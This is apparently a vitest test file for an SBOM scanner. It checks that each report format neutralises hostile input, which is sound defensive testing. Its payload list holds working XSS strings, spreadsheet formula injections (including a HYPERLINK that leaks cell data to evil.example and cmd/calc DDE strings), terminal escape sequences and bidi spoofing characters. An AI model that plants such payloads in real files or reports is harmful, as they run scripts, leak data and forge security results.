// Reports cannot be forged or turned against their reader: every value from an SBOM (or a rule pack) is stripped, escaped or neutralized.
import { assertValidSarif, withSarifSchema } from '../helpers/sarif.js';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import type { ScanReport } from '../../src/model/result.js';
import { REPORTERS } from '../../src/report/registry.js';
import { assembleReport, prepareRules, scanBytes } from '../../src/scan.js';
import { CTX, NOW } from './helpers.js';
import { activeElements, renderMarkdown } from '../helpers/markdown.js';

/** Values an attacker writes into an SBOM to forge a report, hide a finding, or attack whoever opens the report. */
const NASTY = [
  '<img src=x onerror=alert(1)>',
  '](javascript:alert(1))',
  '[click me](javascript:alert(document.cookie))',
  '</script><script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "'onmouseover='alert(1)",
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'evil\u001b[2J\u001b[Hclears the screen',
  '\u001b]8;;http://evil.example\u0007a hyperlink\u001b]8;;\u0007',
  '\u009b31m8-bit CSI',
  'kaspersky\u001b[8m concealed \u001b[0m',
  '\u001b[1A\u001b[2Kerases the line above',
  'a\u202egnp.exe',
  '\u2066isolate\u2069 and \u061carabic mark',
  'zero\u200bwidth\u2060joiner\ufeffbom',
  'line\u2028separator\u2029paragraph',
  'back\bspace\u0008\u0008\u0008',
  'fake\nSummary: 1 document, 0 components read, 0 flagged, 0 clean; no findings',
  'cr\rGate (--fail-on info): PASS',
  '| injected | cells |',
  'tag\udb40\udc41\udb40\udc42characters',
];

/** Characters no report line shown to a person may carry (tab excepted). */
const INVISIBLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|\udb40[\udc00-\udc7f]/;

const dir = mkdtempSync(path.join(tmpdir(), 'ictscan-hostile-report-'));
writeFileSync(
  path.join(dir, 'nasty.json'),
  JSON.stringify({
    rules: [
      {
        id: 'ACME-NASTY-001',
        title: 'Nasty \u001b[2J<b>title</b> ](javascript:x)',
        category: 'product',
        severity: 'high',
        status: 'banned',
        description: 'a rule pack is text from someone else too',
        conditions: [{ kind: 'name', names: ['nasty-rule-target'] }],
        remediation: { action: 'remove', summary: 'Summary \u001b[31m<i>x</i>', steps: ['step \u001b]0;title\u0007 <u>'], alternatives: ['alt \u202e <s>'] },
        references: [{ url: 'https://example.org/' }],
        checked: '2026-11-21',
      },
    ],
  }),
);
const rules = prepareRules({ rulePacks: [dir] });

const hostile = JSON.stringify({
  bomFormat: 'CycloneDX',
  specVersion: '1.6\u001b[2J',
  metadata: { component: { 'bom-ref': 'root', name: 'app\u001b[31m' } },
  components: [
    ...NASTY.map((name, i) => ({ 'bom-ref': `r${i}\u001b[2J`, name, version: NASTY[(i + 1) % NASTY.length], purl: `pkg:npm/x${i}@1`, supplier: { name: 'AO Kaspersky Lab' } })),
    { 'bom-ref': 'rule', name: 'nasty-rule-target', version: '1' },
    { 'bom-ref': 'dup\u001b[2J', name: 'clean-a' },
    { 'bom-ref': 'dup\u001b[2J', name: 'clean-b' },
  ],
  dependencies: [{ ref: 'root', dependsOn: NASTY.map((_, i) => `r${i}\u001b[2J`) }, { ref: 'r0\u001b[2J', dependsOn: ['ghost\u001b[2J\u202e'] }],
});
/** Unreadable inputs whose error messages quote SBOM text. */
const badXml = '<bom xmlns="http://cyclonedx.org/schema/bom/9.9\u001b[2J\u202e"><components/></bom>';
const badJson = '{"bomFormat":"CycloneDX", \u001b[2J\u202e }';

function report(): ScanReport {
  const inputs: [string, string][] = [
    ['evil\u001b[2J\u202e.cdx.json', hostile],
    ['bad.xml', badXml],
    ['bad.json', badJson],
  ];
  const results = inputs.map(([source, text]) => scanBytes(source, Buffer.from(text), rules, { walked: false, minConfidence: 'low', maxSize: 1e9, now: NOW }));
  return assembleReport(results, rules, { minConfidence: 'low', now: NOW });
}

const r = report();
const render = (format: string, color = false): string => REPORTERS.get(format)?.render(r, { ...CTX, color, rules: rules.byId }) ?? '';

describe('the hostile report itself', () => {
  it('has a finding for every nasty component and both unreadable inputs', () => {
    expect(r.findings.filter((f) => f.rule.id !== 'ACME-NASTY-001')).toHaveLength(NASTY.length);
    expect(r.findings.some((f) => f.rule.id === 'ACME-NASTY-001')).toBe(true);
    expect(r.summary.documentsWithErrors).toBe(2);
  });
});

describe('table', () => {
  const PALETTE = ['\u001b[1;31m', '\u001b[31m', '\u001b[33m', '\u001b[36m', '\u001b[2m', '\u001b[0m', '\u001b[1m'];

  for (const color of [false, true]) {
    it(`strips terminal escapes, controls and bidi characters from every SBOM and rule value (colour ${color ? 'on' : 'off'})`, () => {
      let out = render('table', color);
      if (color) for (const p of PALETTE) out = out.split(p).join('');
      expect(out).not.toMatch(INVISIBLE);
      expect(out).not.toMatch(/\r/);
    });
  }

  it('cannot print a fake summary, gate line or error, or hide a finding row', () => {
    const out = render('table');
    const lines = out.split('\n');
    expect(lines.filter((l) => l.startsWith('Summary:'))).toHaveLength(1);
    expect(lines.filter((l) => l.startsWith('Gate '))).toHaveLength(0);
    expect(lines.filter((l) => /^\s+error: /.test(l))).toHaveLength(2);
    const rows = lines.filter((l) => /^\s+\d+\s+(critical|high|medium|low|info)\s{2}/.test(l));
    expect(rows).toHaveLength(r.findings.length);
    expect(out).toMatch(/Summary: 1 of 3 documents read \(2 could not be\), \d+ components read/);
  });
});

describe('markdown', () => {
  const out = render('markdown');

  it('renders no HTML and no link from SBOM or rule text, by either renderer', () => {
    for (const [renderer, html] of Object.entries(renderMarkdown(out))) {
      expect(activeElements(html), renderer).toEqual([]);
      expect(html, renderer).toContain('<code>&lt;img src=x onerror=alert(1)&gt;');
    }
  });

  it('keeps every table row to its nine cells and to one line', () => {
    const rows = out.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| #'));
    expect(rows.length).toBeGreaterThanOrEqual(NASTY.length);
    for (const row of rows) expect(row.replace(/\\\|/g, '').split('|')).toHaveLength(11);
    expect(out).not.toMatch(INVISIBLE);
  });
});

describe('html', () => {
  const out = render('html');
  const ALLOWED = new Set(['!DOCTYPE', 'html', 'head', 'meta', 'title', 'style', 'body', 'header', 'div', 'h1', 'h2', 'h3', 'h4', 'h5', 'p', 'nav', 'a', 'main', 'section', 'dl', 'dt', 'dd', 'span', 'figure', 'figcaption', 'svg', 'line', 'text', 'g', 'rect', 'ul', 'ol', 'li', 'label', 'select', 'option', 'input', 'output', 'table', 'caption', 'thead', 'tbody', 'tr', 'th', 'td', 'details', 'summary', 'strong', 'code', 'time', 'footer', 'script']);

  it('has no markup but its own: every tag is one the reporter writes, and there is one script (its own)', () => {
    const tags = [...out.matchAll(/<\/?([!A-Za-z][\w-]*)/g)].map((m) => m[1] ?? '');
    for (const t of tags) expect(ALLOWED.has(t), t).toBe(true);
    expect(out.match(/<script>/g)).toHaveLength(1);
    // No attribute of any tag is an event handler or a script URL; the SBOM's attempts are text.
    for (const m of out.matchAll(/<[A-Za-z][\w-]*((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g)) {
      const attrs = m[1] ?? '';
      expect(attrs.replace(/"[^"]*"/g, '""')).not.toMatch(/\son[a-z]+\s*=/i);
      expect(attrs).not.toMatch(/\s(?:href|src|action|formaction|xlink:href)="\s*javascript:/i);
    }
    // Every `<` in the page opens one of those well-formed tags: none is left over from an SBOM value.
    const text = out.replace(/<(style|script)>[\s\S]*?<\/\1>/g, '').replace(/<\/?[!A-Za-z][\w-]*((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g, '');
    expect(text).not.toMatch(/</);
    expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(out).toContain('&quot;&gt;&lt;svg onload=alert(1)&gt;');
  });

  it('links only to anchors in the page, and quotes every attribute value', () => {
    for (const m of out.matchAll(/href="([^"]*)"/g)) expect(m[1]).toMatch(/^#[\w-]+$/);
    expect(out).not.toMatch(INVISIBLE);
  });
});

describe('csv', () => {
  /** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks. */
  function cells(text: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let cell = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const c = text[i];
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') {
          cell += '"';
          i++;
        } else if (c === '"') quoted = false;
        else cell += c;
      } else if (c === '"') quoted = true;
      else if (c === ',') {
        row.push(cell);
        cell = '';
      } else if (c === '\r' && text[i + 1] === '\n') {
        row.push(cell);
        rows.push(row);
        row = [];
        cell = '';
        i++;
      } else cell += c;
    }
    return rows;
  }

  it('neutralizes every cell a spreadsheet would evaluate, and keeps one record per finding', () => {
    const rows = cells(render('csv').replace(/^\ufeff/, ''));
    const header = rows[0] ?? [];
    expect(rows.slice(1)).toHaveLength(r.findings.length + 2 + r.summary.untestableComponents);
    expect(rows.filter((row) => row[header.indexOf('rule')] === 'UNTESTABLE')).toHaveLength(r.summary.untestableComponents);
    for (const row of rows) {
      expect(row).toHaveLength(header.length);
      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    }
    const names = rows.map((row) => row[header.indexOf('component')] ?? '');
    for (const n of ['=HYPERLINK(', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]) expect(names.some((x) => x.startsWith(`'${n}`)), n).toBe(true);
  });

  it('drops escapes, controls and bidi characters, but keeps line breaks inside quotes', () => {
    const out = render('csv');
    expect(out.replace(/[\r\n]/g, '')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
  });
});

describe('SARIF and JSON come from serializers', () => {
  it('JSON round-trips every SBOM value exactly, escapes included: it is data for programs, not a display', () => {
    const parsed = JSON.parse(render('json')) as ScanReport;
    const names = new Set(parsed.findings.map((f) => f.component.name));
    // Values are trimmed when read (a name is not its surrounding blanks); nothing else is changed.
    for (const n of NASTY) expect(names.has(n.trim()), JSON.stringify(n)).toBe(true);
    expect(parsed).toEqual(JSON.parse(JSON.stringify(r)));
  });

  it(withSarifSchema('SARIF is valid JSON whose messages carry no escapes and no SARIF link syntax from the SBOM'), () => {
    const text = render('sarif');
    assertValidSarif(text);
    const sarif = JSON.parse(text) as { runs: { results: { message: { text: string } }[] }[] };
    const results = sarif.runs[0]?.results ?? [];
    expect(results.length).toBeGreaterThanOrEqual(NASTY.length);
    for (const res of results) {
      expect(res.message.text).not.toMatch(INVISIBLE);
      expect(res.message.text).not.toMatch(/(?<!\\)\[[^\]]*(?<!\\)\]\(/);
    }
  });
});

describe('junit', () => {
  it('is well-formed XML whatever the SBOM held', () => {
    const out = render('junit');
    expect(XMLValidator.validate(out)).toBe(true);
    expect(out).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u001b]/);
    expect(out).not.toMatch(/<img|<script/);
  });
});

describe('diagnostics that quote SBOM text', () => {
  it('input error messages carry no raw controls or bidi characters, whatever reporter (or stderr) shows them', () => {
    for (const d of r.documents.filter((x) => x.error !== null)) {
      const message = (d.error ?? '').slice(d.source.length);
      expect(message, message).not.toMatch(INVISIBLE);
    }
  });
});
